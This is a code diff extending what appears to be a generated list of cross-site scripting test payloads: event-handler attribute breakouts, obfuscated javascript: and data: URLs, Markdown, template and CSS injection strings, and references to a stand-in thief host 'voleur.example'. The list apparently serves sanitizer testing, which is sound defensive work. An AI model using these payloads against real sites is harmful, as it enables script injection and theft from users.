@@ -46,11 +46,36 @@ const ELEMENTS = ACTS.flatMap(act => [
   `<a href="java\tscript:${act}">x</a>`,
   `<x-pwned onclick=${act}>x</x-pwned>`,
 ]);
-const ATTRIBUTES = combined(['" ', "' ", '` ', '"/'], EVENTS, ['=alert(1) x="', '=window.pwned=1//']);
+const ATTRIBUTES = combined(['" ', "' ", '` ', '"/', '" x="" ', "'/"], EVENTS, [
+  '=alert(1) x="',
+  '=window.pwned=1//',
+  '="alert(1)" autofocus tabindex=1 x="',
+]);
 const ADDRESSES = combined(
-  ['javascript:', 'JaVaScRiPt:', 'java\nscript:', '\u0001javascript:', 'data:text/html,', 'vbscript:'],
+  [
+    'javascript:',
+    'JaVaScRiPt:',
+    'java\nscript:',
+    '\u0001javascript:',
+    'javascript&colon;',
+    'javascript://%0a',
+    'data:text/html,',
+    'data:image/svg+xml,<svg onload=',
+    'vbscript:',
+    '//voleur.example/?',
+  ],
   ACTS,
 );
+/** Where a text is taken for Markdown, a template or a style sheet on its way to the page. */
+const MARKUP = [
+  ...combined(['[x](', '![x](', '<', '[x]: '], ['javascript:'], ACTS, [')', '>']),
+  ...combined(['{{', '${', '<%=', '#{', '[[', '{!!', '@{'], ACTS, ['}}', '}', '%>', ']]', '!!}']),
+  ...combined(
+    ['</style><style>*{', 'x;', '}*{', 'expression(', '";}'],
+    ['background:url(javascript:alert(1))', "behavior:url('#x')", '@import "//voleur.example/x.css"'],
+    ['', '}'],
+  ),
+];
 const INSIDE_SCRIPT = [
   "';alert(1);//",
   '";alert(1);//',
@@ -69,12 +94,19 @@ const ENCODED = [
   '&#60;img src=x onerror=alert(1)&#62;',
 ];
 
-/** More than two hundred texts that are a script in one place or another: made by combination, not collected. */
+/** Texts that are a script in one place or another, 500 of them good for a name: made by combination, not collected. */
 export const SCRIPTS: string[] = unique([
   ...ELEMENTS,
-  ...spread(combined(BREAKERS.slice(1), spread(ELEMENTS, 12)), 80),
-  ...spread(ATTRIBUTES, 28),
+  ...spread(
+    combined(
+      BREAKERS.slice(1),
+      ELEMENTS.filter(text => text.length < 65),
+    ),
+    240,
+  ),
+  ...spread(ATTRIBUTES, 90),
   ...ADDRESSES,
+  ...spread(MARKUP, 110),
   ...INSIDE_SCRIPT,
   ...ENCODED,
 ]);
